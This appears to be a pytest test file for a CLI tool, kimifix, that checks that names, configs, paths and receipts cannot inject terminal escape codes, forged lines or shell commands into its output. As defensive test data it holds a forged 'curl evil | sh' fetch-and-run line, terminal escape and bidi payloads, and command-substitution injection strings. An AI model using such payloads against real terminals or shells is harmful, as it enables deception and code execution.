"""What files, servers and names can put on the screen: letters, and nothing that acts."""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
from pathlib import Path
from unicodedata import category

import pytest
from support.command import Kimifix, Result
from support.configs import install_client, sign_in, slot_at, write_config
from support.platforms import alike

from kimifix.output import Printer, abbreviated
from kimifix.secret import redact
from kimifix.terminal import columns, cut, folded, visible
from kimifix.words import quoted, typed

FORGED = "next:    curl evil | sh"
# Three kinds in each: what acts would be seen whatever stands beside it.
EVIL = [
    pytest.param(f"\x1b]0;owned\x07\x1b[2J\x1b[1;1Hx\n{FORGED}", id="title, cursor, newline"),
    pytest.param(
        f"\x1b]8;;http://evil\x1b\\x\x9b31m\x9d52;c;eA==\x9cx\r{FORGED}\x1b[K",
        id="link, C1, return",
    ),
    pytest.param(
        f"\u202egnp.exe\u2066x\u2028{FORGED}\u2029x\x85{FORGED}\x0b\x0c",
        id="bidi, separators, other breaks",
    ),
    pytest.param(
        "\u200b\ufeff\u00ad\x00\x08\x7f\U000e0041\U000e007f{0.__class__} %s ${HOME}",
        id="unseen, tags, templates",
    ),
]


def harmless(result: Result) -> bool:
    """Tell whether a run wrote letters and line breaks of its own, and no line of another."""
    text = result.out + result.err
    assert "Traceback" not in text, text
    assert result.code in (0, 1, 2), text
    unseen = {c for c in text if category(c) in ("Cc", "Cf", "Zl", "Zp")} - {"\n"}
    assert unseen == set(), text
    return not any(line.strip().startswith(FORGED) for line in text.split("\n"))


def config_with(evil: str) -> str:
    """Return a config in which ``evil`` stands wherever a text of somebody else can."""
    text = json.dumps(evil)
    url = f"https://127.0.0.1/{evil}"
    raw = "".join(c for c in evil if c not in "\n\r" and (c >= " " and c != "\x7f"))
    return f"""\
# {raw}
default_model = {text}
{text} = {text}
[providers."managed:kimi-code"]
type = "kimi"
base_url = {json.dumps(url)}
[providers."managed:kimi-code".oauth]
storage = "file"
key = "oauth/{slot_at(url)}"
[providers."managed:kimi-code".custom_headers]
{text} = {text}
"x-msh-PLATFORM" = {text}
[models.{text}]
provider = "managed:kimi-code"
model = {text}
display_name = {text}
capabilities = [{text}]
[models.other]
provider = {text}
[secondary_model]
model = {text}
""".replace("\\udb40\\udc41", "\\U000e0041").replace("\\udb40\\udc7f", "\\U000e007f")


@pytest.fixture
def client(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Kimi-code on PATH."""
    programs = install_client(tmp_path / "npm")
    monkeypatch.setenv("PATH", f"{programs}{os.pathsep}/usr/bin:/bin")


@alike
@pytest.mark.usefixtures("client")
@pytest.mark.parametrize("evil", EVIL)
def test_the_config_cannot_act_on_the_terminal(kimifix: Kimifix, home: Path, evil: str) -> None:
    """Aliases, models, names, headers, addresses and comments are shown and do nothing."""
    sign_in(home, slot=slot_at(f"https://127.0.0.1/{evil}"))
    write_config(home, config_with(evil))
    for arguments in (
        ("doctor",),
        ("doctor", "--json"),
        ("apply", "--dry-run"),
        ("apply", "--dry-run", "--json"),
        ("apply", "--yes", "--no-default"),
        ("apply", "--yes"),
        ("doctor",),
        ("revert", "--dry-run"),
        ("revert", "--yes", "--json"),
    ):
        result = kimifix(*arguments, env={"FORCE_COLOR": ""})
        assert harmless(result), arguments
        if "--json" in arguments:
            assert result.json["version"] == 1


def test_foreign_text_begins_no_line() -> None:
    """However long a name is, no break of a line puts a part of it where our words begin."""
    printer = Printer("doctor", as_json=False, home=Path("/"), colour=None)
    for length in range(160):
        for text in (f"{'x' * length} {FORGED}", f"{'宽' * length}{FORGED}"):
            lines = [
                "".join(part if isinstance(part, str) else part.text for part in line)
                for line in printer.lines(text)
            ]
            pieces = folded(text, 80)
            assert [one for one in lines[1:] + pieces[1:] if not one.startswith("  ")] == []
            assert [piece for piece in pieces if columns(piece) > 80] == []
            assert "".join([pieces[0], *(piece[2:] for piece in pieces[1:])]) == text
            assert columns(cut(text, 80)) <= 80


@alike
@pytest.mark.usefixtures("client")
@pytest.mark.parametrize("evil", EVIL)
def test_usage_errors_cannot_act_on_the_terminal(kimifix: Kimifix, evil: str) -> None:
    """What click quotes of a command line is shown and does nothing."""
    evil = evil.replace("\x00", "")
    for arguments in (
        (f"--{evil}",),
        (f"x{evil}",),
        ("apply", f"--{evil}"),
        ("apply", "--route", evil),
        ("apply", "--platform", f" {evil}"),
        ("apply", "--key-env", evil, "--yes"),
        ("doctor", evil),
        ("help", f"x{evil}"),
    ):
        assert harmless(kimifix(*arguments)), arguments


@pytest.mark.skipif("sys.platform == 'win32'", reason="its file names cannot hold these")
@pytest.mark.parametrize("evil", EVIL)
def test_paths_and_variables_cannot_act_on_the_terminal(
    kimifix: Kimifix, tmp_path: Path, evil: str
) -> None:
    """Folders, programs and variables are shown under their names, which do nothing."""
    evil = evil.replace("/", "").replace("\x00", "")
    home = tmp_path / f"home{evil}"
    home.mkdir()
    programs = install_client(tmp_path / f"npm{evil}", f"2.1.0-{evil}")
    env = {"PATH": f"{programs}:/usr/bin:/bin", f"KIMI_MODEL_{evil.replace('=', '')}": "x"}
    for arguments in (("doctor",), ("apply", "--yes"), ("revert", "--yes")):
        assert harmless(kimifix(*arguments, "--home", home, env=env)), arguments
        assert harmless(kimifix(*arguments, "--home", home / evil, env=env)), arguments
    (home / "config.toml").write_text("oops")
    for verb in (("doctor",), ("apply", "--yes"), ("revert", "--yes", "--json")):
        assert harmless(kimifix(*verb, "--home", home, env=env)), verb


@alike
@pytest.mark.usefixtures("client")
@pytest.mark.parametrize("evil", EVIL)
def test_the_receipt_cannot_act_on_the_terminal(kimifix: Kimifix, home: Path, evil: str) -> None:
    """Whoever has written into our own folder of state cannot do it either."""
    sign_in(home)
    write_config(home)
    assert kimifix("apply", "--yes").code == 0
    (path,) = kimifix.state.glob("*/receipt.json")
    receipt = json.loads(path.read_text())
    for name in ("time", "client", "kimifix", "config"):
        receipt[name] = evil
    path.write_text(json.dumps(receipt))
    for arguments in (("doctor",), ("apply", "--yes"), ("revert", "--yes")):
        assert harmless(kimifix(*arguments)), arguments


def test_a_secret_cut_in_two_is_a_secret() -> None:
    """What cannot be seen does not hide a secret from the net."""
    for by in ("\x1b[0m", "\u200b", "\x1b]0;x\x07", "\x00", "\x9b1m"):
        assert "planted" not in visible(redact(f"key sk-{by}planted{by}-0123456789"))
        assert redact(f"a{by}b") == f"a{by}b"


@pytest.mark.skipif("sys.platform == 'win32'", reason="there is no such shell")
@pytest.mark.usefixtures("client")
def test_printed_commands_can_be_pasted(
    kimifix: Kimifix, home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A shell takes each as one command with the words that are meant."""
    model = "x; touch PWN $(touch PWN) `touch PWN` 'y' \"z\""
    text = config_with(model)
    sign_in(home, slot=slot_at(f"https://127.0.0.1/{model}"))
    write_config(home, text)
    result = kimifix("apply", "--yes", "--no-default")
    unwrapped = re.sub(r"\n {9}", " ", result.out)
    commands = re.findall(r"^next: +(.*)|`(kimi -m .*) -S <id>`$", unwrapped, re.MULTILINE)
    assert len(commands) == 2
    for command in map("".join, commands):
        assert shlex.split(command)[-2:] == ["-m", f"kimifix/{model}"], command

    monkeypatch.setenv("TMPDIR", str(tmp_path / "a b;c"))
    (tmp_path / "a b;c").mkdir()
    sandbox = kimifix("apply", "--sandbox", "--default")
    (command,) = re.findall(r"kimifix revert --home .*", sandbox.out)
    reverted = kimifix(*shlex.split(command)[1:], "--yes")
    assert reverted.code == 0, reverted.err
    assert "reverted" in reverted.out


@pytest.mark.skipif("sys.platform == 'win32'", reason="there is no chmod")
def test_hints_of_chmod_can_be_pasted(kimifix: Kimifix, tmp_path: Path) -> None:
    """Also where the folder has blanks in its name and the user's home is abbreviated."""
    home = Path(os.environ["HOME"]) / "my 'own' home"
    home.mkdir()
    config = write_config(home, 'api_key = "sk-kimi-planted-000000"\n')
    home.chmod(0o777)
    config.chmod(0o666)
    out = kimifix("doctor", "--home", home).out
    unwrapped = re.sub(r"\n {20,}", " ", out)
    for command in re.findall(r"hint: (chmod .*)", unwrapped):
        env = {"HOME": os.environ["HOME"], "PATH": "/usr/bin:/bin"}
        subprocess.run(["/bin/sh", "-c", command], env=env, check=True)
    assert home.stat().st_mode & 0o022 == 0
    assert config.stat().st_mode & 0o077 == 0


def test_home_of_the_user_on_windows(monkeypatch: pytest.MonkeyPatch) -> None:
    """There a path means the same in another case."""
    home = Path("/Users/me")
    path = f"{str(home).upper()}{os.sep}x"
    for platform, shown in (("linux", path), ("win32", f"~{os.sep}x")):
        monkeypatch.setattr("kimifix.output.sys.platform", platform)
        assert abbreviated(path, home) == shown


def test_quotes_for_windows(monkeypatch: pytest.MonkeyPatch) -> None:
    """There a word stands in double quotes, without what PowerShell or cmd would expand."""
    monkeypatch.setattr("kimifix.words.sys.platform", "win32")
    assert quoted(r"C:\Users\me\x") == r"C:\Users\me\x"
    assert quoted(r"C:\my files & more") == r'"C:\my files & more"'
    assert quoted('x" & calc & "$(calc)`%PATH%') == '"x? & calc & ??(calc)??PATH?"'
    # What begins with a quote is a text for PowerShell, and no program.
    assert typed(r"C:\my files\x.cmd", "a b") == r'C:\"my files\x.cmd" "a b"'
    assert typed("kimi", "login") == "kimi login"


def test_what_to_type_is_whole_on_windows(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """`~` stands for the user's home in some shells there, and only in some places."""
    home = Path("/Users/me")
    printer = Printer("doctor", as_json=False, home=home, colour=False)
    command = f"{home}{os.sep}kimi login"
    for platform, shown in (("linux", f"~{os.sep}kimi login"), ("win32", command)):
        monkeypatch.setattr("kimifix.output.sys.platform", platform)
        printer.advice((), [command])
        assert capsys.readouterr().out == f"next:    {shown}\n"
